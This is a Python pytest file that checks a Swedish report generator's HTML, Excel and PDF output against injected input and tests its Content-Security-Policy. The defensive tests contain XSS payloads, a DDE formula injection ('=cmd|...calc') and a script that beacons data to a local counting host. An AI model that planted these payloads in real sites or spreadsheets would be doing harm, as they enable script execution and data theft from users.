"""Text from files is shown as text everywhere, and the pages' own policy holds in a browser."""

from __future__ import annotations

import csv
import json
import re
import shutil
import threading
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import lxml.html
import openpyxl
import pypdf
import pytest

from analysis.project import Project, Request
from analysis.report.make import report
from analysis.run.runner import Progress
from analysis.site import layout as lay

HOSTILE_NAME = '& "mark" #strong[typst] =cmd|calc!A1 -- alert(1)'
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) "
    '`kod` *fet* #strong[typst] $x^2$ @fig-trend {{< var kommun >}} ``` =cmd|calc!A1 "q" \\ | ::: å'
)
FORMULA = "=cmd|'/c calc'!A1"
PARTS = ("config", "notebooks", "reports", "data/example", "data/official", "published")


@pytest.fixture(scope="module")
def hostile_site(example_project: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example with hostile text in an area's name, in progress and in notes of values."""
    root = tmp_path_factory.mktemp("hostile")
    for part in PARTS:
        shutil.copytree(example_project.root / part, root / part)
    for file in ("_quarto.yml", "pyproject.toml", "requirements.txt"):
        shutil.copy(example_project.root / file, root / file)
    questionnaire = root / "config" / "questionnaire.yml"
    text = questionnaire.read_text("utf-8")
    plain = 'name: "Lantmäteri"\n    aliases: ['
    name = json.dumps(f"Lantmäteri {HOSTILE_NAME}", ensure_ascii=False)
    assert plain in text
    changed = text.replace(plain, f'name: {name}\n    aliases: ["Lantmäteri", ')
    questionnaire.write_text(changed, "utf-8")
    progress = root / "data" / "example" / "aktiviteter.csv"
    lines = progress.read_text("utf-8-sig").splitlines()
    with progress.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file, delimiter=";")
        for number, row in enumerate(csv.reader(lines, delimiter=";")):
            table.writerow(row if not number else [*row[:-2], FORMULA + HOSTILE, row[-1]])
    collected = next((root / "data" / "official").glob("*.csv"))
    with collected.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    own = [row for row in rows if row["kommunkod"] == "0188"]
    assert own
    for row in own:
        row["anm"] = HOSTILE
    with collected.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    project = Project(root)
    asked = Request(example=True, engine="embedded", today=date(2026, 11, 23))
    report(project, asked, Progress())
    return project.site


def test_hostile_text_is_shown_and_never_becomes_markup(hostile_site: Path) -> None:
    shown = 0
    for path in hostile_site.rglob("*.html"):
        text = path.read_text("utf-8")
        document = lxml.html.fromstring(text)
        assert "<script>alert" not in text
        assert not document.xpath("//img[@onerror] | //a[starts-with(@href, 'javascript:')]")
        assert not document.xpath("//*[starts-with(name(@*), 'on')]")
        shown += "alert(1)" in document.text_content()
    assert shown >= 3
    method = lxml.html.fromstring((hostile_site / "metod.html").read_text("utf-8"))
    assert "<script>alert(1)</script>" in method.text_content()


def test_hostile_text_is_text_in_the_workbook(hostile_site: Path) -> None:
    book = openpyxl.load_workbook(hostile_site / "data" / "nki.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any("alert(1)" in str(cell.value) for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]


def test_hostile_text_is_text_in_the_pdf(hostile_site: Path, example_site: Path) -> None:
    """The area's name stands as it is written, and everything else is there too."""
    pages = pypdf.PdfReader(hostile_site / "bilaga.pdf").pages
    text = "".join(page.extract_text() for page in pages)
    # How lines are broken is not told by a PDF, and dashes are set as such.
    packed = re.sub(r"\s|\N{SOFT HYPHEN}", "", text).replace("\N{EN DASH}", "--")
    assert packed.count(re.sub(r"\s", "", f"Lantmäteri {HOSTILE_NAME}")) >= 2
    assert len(pages) == len(pypdf.PdfReader(example_site / "bilaga.pdf").pages)


@pytest.mark.browser
def test_hostile_text_does_nothing_in_a_browser(hostile_site: Path, browser) -> None:
    """Nothing of it runs, becomes a link in a figure, or asks for anything."""
    page = browser.new_page()
    happened: list[str] = []
    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on(
        "request",
        lambda request: request.url.startswith("file:") or happened.append(request.url),
    )
    for path in sorted(hostile_site.rglob("*.html")):
        page.goto(path.as_uri())
        figures = page.locator(".nki-plot").count()
        page.wait_for_function(
            "n => document.querySelectorAll('.nki-plot .main-svg').length >= n", arg=figures
        )
        assert page.locator("svg a, svg image, svg script").count() == 0
    page.close()
    assert happened == []


# --- the policy ---

POLICY = "default-src 'none'"


def test_every_page_has_a_policy_before_anything_it_governs(example_site: Path) -> None:
    for path in example_site.rglob("*.html"):
        text = path.read_text("utf-8")
        head = text.split("</head>")[0]
        assert POLICY in head
        governed = [text.index(tag) for tag in ("<link", "<style", "<script") if tag in text]
        assert head.index(POLICY) < min(governed)
        scripts = head.split("style-src")[0].split("script-src")[1]
        # The file that holds all pages has one script, known by its digest.
        assert scripts.startswith(" 'sha256-" if path.name == "rapport.html" else " 'self'")
        assert "unsafe-inline" not in scripts


@pytest.mark.browser
def test_the_policy_stops_injected_scripts_and_lets_the_report_work(
    example_site: Path, tmp_path: Path, browser
) -> None:
    site = Path(shutil.copytree(example_site, tmp_path / "_site"))
    page_file = site / "index.html"
    injected = (
        "<script>document.title = 'taken'</script><img src=x onerror=\"document.title='taken'\">"
    )
    page_file.write_text(
        page_file.read_text("utf-8").replace("</main>", injected + "</main>"), "utf-8"
    )
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(page_file.as_uri())
    page.wait_for_function("document.querySelectorAll('.nki-plot .main-svg').length > 0")
    assert page.title() != "taken"
    assert any("Content Security Policy" in text for text in refused)
    page.close()


STRICT = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; "
    "base-uri 'none'; form-action 'none'"
)
TYPEFACE = """() => Promise.all(
  [400, 600, 700].map(weight => document.fonts.load(`${weight} 16px "Source Sans 3"`)))"""
LOOKS = """() => [...document.querySelectorAll(
    "main text, main tspan, main .main-svg, main th, main td, main .nki-grade, .search input"
  )].map(one => {
    const { x, y, width, height } = one.getBoundingClientRect();
    const look = getComputedStyle(one);
    return [one.textContent.slice(0, 30), look.fontWeight, look.backgroundColor, look.minWidth,
            ...[x, y, width, height].map(Math.round)];
  })"""


@pytest.mark.browser
@pytest.mark.parametrize("name", ["index.html", "nulage.html", "maluppfyllelse.html"])
def test_a_stricter_policy_of_the_server_changes_nothing_that_is_seen(
    example_site: Path, browser, name: str
) -> None:
    """An intranet may allow no inline style and no picture but files of the site."""

    def looks(policy: str) -> tuple[list[list[object]], list[str]]:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        refused = []
        page.on("console", lambda message: refused.append(message))

        def serve(route) -> None:
            file = example_site / route.request.url.removeprefix("https://prov.invalid/")
            route.fulfill(path=file, headers={"Content-Security-Policy": policy} if policy else {})

        page.route("https://prov.invalid/**", serve)
        # The figures are drawn when the typeface has come, by which Plotly measures their words.
        page.route("**/report.js", lambda route: route.abort())
        page.goto(f"https://prov.invalid/{name}")
        page.evaluate(TYPEFACE)
        page.unroute("**/report.js")
        page.add_script_tag(url="https://prov.invalid/assets/report.js")
        page.wait_for_selector(".nki-plot:not(:has(.main-svg))", state="detached")
        found = page.evaluate(LOOKS)
        page.close()
        stopped = "Content Security Policy"
        return found, [one.location["url"] for one in refused if stopped in one.text]

    (seen, _), (strict, refused) = looks(""), looks(STRICT)
    assert len(seen) > 40
    assert [one[:4] for one in strict] == [one[:4] for one in seen]
    for one, other in zip(strict, seen, strict=True):
        assert one[4:] == pytest.approx(other[4:], abs=2), one[0]
    figures = len(read_figures(example_site / name))
    of_page = [url for url in refused if url.endswith(".html")]
    # The room that a figure's place keeps until it is drawn is all of the page's own.
    assert len(of_page) == figures
    assert all(url.endswith((".html", "plotly-basic.min.js")) for url in refused)


def read_figures(page: Path) -> list[object]:
    found: list[object] = lxml.html.fromstring(page.read_text("utf-8")).find_class("nki-plot")
    return found


class Counting(BaseHTTPRequestHandler):
    """A host outside the site; whoever reaches it is counted."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


SENDING = """
<script>
const host = '{host}';
fetch(host + 'fetch').catch(() => 0);
new Image().src = host + 'image';
navigator.sendBeacon(host + 'beacon', 'svar');
const script = document.createElement('script');
script.src = host + 'script';
document.head.append(script);
</script>
<img src="{host}img"><link rel="stylesheet" href="{host}style"><iframe src="{host}frame"></iframe>
<form id="f" method="post" target="_blank" action="{host}form"><input name="a" value="svar"></form>
"""
QUARTO, EMBEDDED, NONE = "quarto", "embedded", "none"


@pytest.mark.browser
@pytest.mark.parametrize("policy", [QUARTO, EMBEDDED, NONE])
def test_an_injected_page_part_cannot_send_anything_anywhere(
    example_site: Path, tmp_path: Path, browser, policy: str
) -> None:
    """By either engine's policy; without one the same part reaches the host at once."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Counting) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        Counting.asked.clear()
        host = f"http://127.0.0.1:{server.server_address[1]}/"
        text = (example_site / "data.html").read_text("utf-8")
        given = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        assert given
        line = {QUARTO: given[0].replace(given[1], lay.POLICY), EMBEDDED: given[0], NONE: ""}
        text = text.replace(given[0], line[policy])
        page_file = tmp_path / "data.html"
        page_file.write_text(
            text.replace("</main>", SENDING.replace("{host}", host) + "</main>"), "utf-8"
        )
        page = browser.new_page()
        page.goto(page_file.as_uri())
        page.evaluate("document.getElementById('f').submit()")
        page.wait_for_timeout(700)
        page.close()
        server.shutdown()
        thread.join()
    asked = {path.strip("/") for path in Counting.asked}
    if policy == NONE:
        assert asked >= {"fetch", "image", "beacon", "script", "img", "style", "frame"}
    else:
        assert asked == set()


@pytest.mark.browser
def test_the_untouched_pages_break_no_rule_of_their_policy(example_site: Path, browser) -> None:
    page = browser.new_page()
    refused: list[str] = []
    page.on(
        "console",
        lambda message: refused.append(message.text) if "Security" in message.text else None,
    )
    for path in sorted(example_site.rglob("*.html")):
        page.goto(path.as_uri())
        figures = page.locator(".nki-plot").count()
        if figures:
            page.wait_for_function(
                "n => document.querySelectorAll('.nki-plot .main-svg').length >= n", arg=figures
            )
    page.close()
    assert refused == []
